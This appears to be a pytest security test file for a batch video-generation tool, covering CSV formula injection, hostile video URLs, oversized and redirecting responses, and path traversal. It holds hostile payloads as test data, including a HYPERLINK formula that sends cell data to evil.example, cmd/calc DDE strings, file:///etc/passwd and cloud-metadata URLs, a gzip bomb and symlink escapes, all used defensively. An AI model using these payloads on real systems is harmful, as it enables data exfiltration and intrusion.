"""Outputs are safe to open, provider answers are untrusted, image paths stay put:
CSV injection, hostile video URLs, oversized or redirecting answers, path traversal."""

from __future__ import annotations

import asyncio
import csv
import gzip
import json
import os
import time
from pathlib import Path

import pandas as pd
import pytest
import yaml
from aiohttp import web

from batch_runner.app import RunRequest, execute
from batch_runner.errors import DownloadError, TransportError
from batch_runner.jobs.encode import to_wire
from batch_runner.jobs.images import resolve_image
from batch_runner.journal import JobRecord, JobStatus
from batch_runner.keys import Secret
from batch_runner.output.results import results_frame
from batch_runner.output.transfer import save
from batch_runner.providers import ADAPTERS, HttpRequest, HttpResponse
from batch_runner.providers.url_safety import (
    UnsafeUrlError,
    check_video_url,
    refuse_redirect,
)
from batch_runner.transport import Transport

from conftest import ROOT, sim_env

FIXTURES_DIR = Path(__file__).resolve().parent.parent / "fixtures"
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


async def test_formula_cells_round_trip_neutralised(tmp_path, sim, write):
    path = write("m.yaml", yaml.safe_dump({"jobs": [
        {"name": f, "prompt": f, "provider": "minimax", "note": f, "=cmd|'/C calc'!A0": "x", "discount": "-5"}
        for f in FORMULAS]}))
    out = tmp_path / "results.csv"
    status = await execute(RunRequest(path, output=out, environ=sim_env(sim), speedup=60.0, quiet=True))
    assert status == 0
    df = pd.read_csv(out)  # as a spreadsheet user would: types inferred
    assert list(df["prompt"]) == ["'" + f for f in FORMULAS]
    assert list(df["name"]) == ["'" + f for f in FORMULAS] and list(df["note"]) == ["'" + f for f in FORMULAS]
    assert "'=cmd|'/C calc'!A0" in df.columns  # a column name is a cell too
    assert list(df["discount"]) == [-5] * len(FORMULAS)  # a plain number is no formula
    for col in ("row", "variant", "duration", "attempts"):
        assert pd.api.types.is_integer_dtype(df[col]), col
    assert pd.api.types.is_float_dtype(df["cost_usd"]) or df["cost_usd"].isna().all()
    with out.open(encoding="utf-8", newline="") as fh:
        for row in csv.reader(fh):
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) and cell != "-5" for cell in row)


def test_provider_texts_are_neutralised_in_results():
    job = {"row": 2, "variant": 1, "prompt": "ok", "duration": 6, "extras": {}}
    record = JobRecord(job_id="j1", job=json.dumps(job), status=JobStatus.FAILED, attempts=1,
                       task_id="@task", video_url="=WEBSERVICE(\"http://x\")", provider_code="+cmd",
                       error_message="-cmd|' /C calc'!A0", cost_usd=None)
    row = results_frame([record]).iloc[0]
    assert (row.task_id, row.video_url, row.provider_code, row.error_message) == (
        "'@task", "'=WEBSERVICE(\"http://x\")", "'+cmd", "'-cmd|' /C calc'!A0")
    assert row.row == 2 and row.attempts == 1


# -- video URLs ----------------------------------------------------------------------
HOSTILE_URLS = ["file:///etc/passwd", "javascript:alert(1)", "ftp://x.example/v.mp4", "/videos/v.mp4",
                "http://169.254.169.254/latest/meta-data", "http://10.0.0.5/v.mp4", "http://[::1]/v.mp4",
                "http://2130706433/v.mp4", "http://localhost/v.mp4", "https://user:pw@cdn.example/v.mp4",
                "https://cdn.example/v .mp4", "https://cdn.example/\nv.mp4", "http://[::1", 42, None]


@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_hostile_video_urls_are_refused(url):
    with pytest.raises(UnsafeUrlError):
        check_video_url(url)


def test_public_and_own_host_video_urls_are_accepted():
    assert check_video_url("https://cdn.example.com/v.mp4?sig=abc") == "https://cdn.example.com/v.mp4?sig=abc"
    assert check_video_url("http://127.0.0.1:8765/videos/x.mp4", trusted_hosts=["127.0.0.1"])
    with pytest.raises(UnsafeUrlError, match="redirects"):
        refuse_redirect(302, "file:///etc/passwd")
    refuse_redirect(200)


def _completed(name: str, url: str) -> list[bytes]:
    """The provider's documented 'finished' answers with the video URL replaced."""
    def load(provider, fixture):
        return json.loads((FIXTURES_DIR / provider / fixture).read_text())
    bodies = {
        "minimax": [load("minimax", "poll_files_retrieve.json")], "gptge": [load("gptge", "poll_files_retrieve.json")],
        "gccai": [load("gccai", "poll_completed.json")], "gptproto": [load("gptproto", "poll_completed.json")],
        "apiframe": [load("apiframe", "poll_completed.json")],
        "minimax_v2": [load("minimax_v2", "poll_succeeded.json")],
        "apiinone": [{"code": 200, "data": {"task_id": "n51", "status": "completed", "output": {"video_url": ""}}}],
    }[name]
    text = json.dumps(bodies[0])
    for old in ("https://video-product.cdn.minimax.io/inference_output/video/2025-09-19/x/output.mp4",
                "https://upload.apimart.ai/f/video/x-video_task_01KBS40K78KGHZ9SDBWQSGSXRK.mp4",
                "https://d2p7pge43lyniu.cloudfront.net/output/x.mp4", "https://cdn2.apiframe.ai/videos/x.mp4",
                "https://cdn.hailuoai.com/prod/hailuo_demo/testsets/h3_promo_eval_ref2va/gallery/"
                "sr_v2p26_trio_seed42_20260724/inputs/89f8c0bbee5b_denoise_ids_0_final.mp4"):
        text = text.replace(json.dumps(old)[1:-1], json.dumps(url)[1:-1])
    text = text.replace('"video_url": ""', f'"video_url": {json.dumps(url)}')
    return [text.encode()]


@pytest.mark.parametrize("name", sorted(ADAPTERS))
def test_adapters_fail_a_task_whose_video_url_is_hostile(name):
    key = "adapter-test-key-0001"
    adapter = ADAPTERS[name]("https://api.example.test", Secret(key))
    for url in ("file:///etc/passwd", "http://169.254.169.254/x", f"https://cdn.example/v.mp4?k={key}"):
        state = adapter.read_poll(HttpResponse(200, {}, _completed(name, url)[0]))
        assert (state.status, state.error_code, state.provider_code) == ("failed", "bad_response", "unsafe_url")
        assert state.video_url == "" and key not in state.message
    good = adapter.read_poll(HttpResponse(200, {}, _completed(name, "https://cdn.example/v.mp4")[0]))
    assert good.status == "succeeded" and good.video_url == "https://cdn.example/v.mp4"


# -- answers: size, time, redirects -----------------------------------------------
async def _serve(aiohttp_server, routes: dict):
    app = web.Application()
    for path, handler in routes.items():
        app.router.add_get(path, handler)
    return await aiohttp_server(app)


async def test_oversized_slow_and_redirecting_answers_are_bounded(aiohttp_server):
    stolen: list[str] = []

    async def chunked(request):
        resp = web.StreamResponse()
        await resp.prepare(request)
        for _ in range(40):
            await resp.write(b" " * 65536)  # 2.5 MiB with no Content-Length
        return resp

    async def announced(request):
        return web.Response(body=b"{}", headers={"Content-Length": str(5 * 2**20)})

    async def bomb(request):  # 8 MiB once unzipped, a few KiB on the wire
        return web.Response(body=gzip.compress(b" " * 8 * 2**20), headers={"Content-Encoding": "gzip"})

    async def slow(request):
        await asyncio.sleep(10)
        return web.Response(text="{}")

    async def steal(request):
        stolen.append(request.headers.get("X-API-Key", ""))
        return web.json_response({"jobId": "x"})

    other = await _serve(aiohttp_server, {"/steal": steal})

    async def redirect(request):
        raise web.HTTPFound(str(other.make_url("/steal")))

    server = await _serve(aiohttp_server, {"/chunked": chunked, "/announced": announced, "/bomb": bomb,
                                           "/slow": slow, "/redirect": redirect})
    async with Transport.open() as transport:
        for path in ("/chunked", "/bomb"):
            with pytest.raises(TransportError, match="larger than 1 MiB") as info:
                await transport.send("gccai", HttpRequest("GET", str(server.make_url(path)), {}), 10)
            assert info.value.error_code == "bad_response"
        with pytest.raises((TransportError,)):
            await transport.send("gccai", HttpRequest("GET", str(server.make_url("/announced")), {}), 10)
        started = time.monotonic()
        with pytest.raises(TransportError) as info:
            await transport.send("gccai", HttpRequest("GET", str(server.make_url("/slow")), {}), 0.3)
        assert info.value.error_code == "timeout" and time.monotonic() - started < 3
        resp = await transport.send("apiframe", HttpRequest("GET", str(server.make_url("/redirect")),
                                                            {"X-API-Key": "redirect-key-0001"}), 10)
    assert resp.status == 302 and stolen == []  # not followed: the key stays with the provider
    with pytest.raises(Exception) as refused:
        ADAPTERS["apiframe"]("https://api.example.test").read_submit(resp)
    assert getattr(refused.value, "error_code", "") in ("bad_response", "invalid_request")


async def test_downloads_refuse_hostile_urls_and_redirects(tmp_path, aiohttp_server):
    hits: list[str] = []

    async def video(request):
        hits.append(request.path)
        return web.Response(body=b"\0" * 100, content_type="video/mp4")

    async def moved(request):
        hits.append(request.path)
        raise web.HTTPFound("/v.mp4")

    server = await _serve(aiohttp_server, {"/v.mp4": video, "/moved": moved})
    local = frozenset({"127.0.0.1"})
    async with Transport.open() as transport:
        assert await save(transport, str(server.make_url("/v.mp4")), tmp_path / "ok.mp4", max_bytes=1000,
                          trusted_hosts=local) == 100
        with pytest.raises(DownloadError, match=r"redirects \(HTTP 302\)"):
            await save(transport, str(server.make_url("/moved")), tmp_path / "a.mp4", max_bytes=1000,
                       trusted_hosts=local)
        with pytest.raises(DownloadError, match="local or private address"):
            await save(transport, str(server.make_url("/v.mp4")), tmp_path / "b.mp4", max_bytes=1000)
        for url in ("file:///etc/passwd", "http://169.254.169.254/latest/meta-data"):
            with pytest.raises(DownloadError):
                await save(transport, url, tmp_path / "c.mp4", max_bytes=1000, trusted_hosts=local)
    assert hits == ["/v.mp4", "/moved"]  # the redirect was not followed; refused URLs were not fetched
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ok.mp4"]


# -- image paths --------------------------------------------------------------------
def test_image_paths_must_stay_in_the_manifest_folder(tmp_path, cli):
    png = (ROOT / "manifests" / "images" / "trail-runner.png").read_bytes()
    campaign = tmp_path / "campaign"
    campaign.mkdir()
    (tmp_path / "secret.png").write_bytes(png)
    (campaign / "inside.png").write_bytes(png)
    (campaign / "link-in.png").symlink_to(campaign / "inside.png")
    (campaign / "link-out.png").symlink_to(tmp_path / "secret.png")
    os.mkfifo(campaign / "pipe.png")  # reading it would block for ever
    manifest = campaign / "m.csv"
    manifest.write_text("prompt,provider,image\n"
                        "a,minimax,inside.png\nb,minimax,link-in.png\nc,minimax,../secret.png\n"
                        f"d,minimax,{tmp_path / 'secret.png'}\ne,minimax,link-out.png\nf,minimax,pipe.png\n")
    result = cli("validate", manifest, "--simulate")
    assert result.exit_code == 2
    out = result.output
    assert "row 2" not in out and "row 3" not in out
    for row in (4, 5, 6):
        assert f"m.csv: row {row}, field 'image': " in out
    assert out.count("leads outside the manifest's folder") == 3 and "--allow-outside-paths" in out
    assert "m.csv: row 7, field 'image': pipe.png is not a file" in out
    (campaign / "pipe.png").unlink()
    manifest.write_text(manifest.read_text().replace("f,minimax,pipe.png\n", ""))
    assert cli("validate", manifest, "--simulate", "--allow-outside-paths").exit_code == 0
    with pytest.raises(ValueError, match="outside the manifest's folder"):
        to_wire("link-out.png", resolve_image("link-out.png", campaign))  # the path the request is built from
    assert to_wire("link-out.png", resolve_image("link-out.png", campaign, allow_outside=True)).startswith(
        "data:image/png;base64,")


def test_a_source_sheet_must_stay_in_the_manifest_folder(tmp_path, cli):
    (tmp_path / "sheet.csv").write_text("prompt,provider\nhello,minimax\n")
    campaign = tmp_path / "campaign"
    campaign.mkdir()
    manifest = campaign / "m.yaml"
    manifest.write_text("source: ../sheet.csv\n")
    result = cli("validate", manifest, "--simulate")
    assert result.exit_code == 2
    assert "m.yaml, field 'source': ../sheet.csv leads outside the manifest's folder" in result.output
    assert cli("validate", manifest, "--simulate", "--allow-outside-paths").exit_code == 0


async def test_outside_paths_are_sent_only_when_allowed(tmp_path, sim):
    png = (ROOT / "manifests" / "images" / "trail-runner.png").read_bytes()
    (tmp_path / "shared").mkdir()
    (tmp_path / "shared" / "hero.png").write_bytes(png)
    campaign = tmp_path / "campaign"
    campaign.mkdir()
    manifest = campaign / "m.yaml"
    manifest.write_text("jobs:\n  - {prompt: a, provider: minimax, image: ../shared/hero.png}\n")
    out = tmp_path / "results.csv"
    request = RunRequest(manifest, output=out, environ=sim_env(sim), speedup=60.0, quiet=True,
                         allow_outside_paths=True)
    assert await execute(request) == 0
    body = sim.store.submissions["minimax"][0].body
    assert Path(out).is_file() and body["first_frame_image"].startswith("data:image/png;base64,")
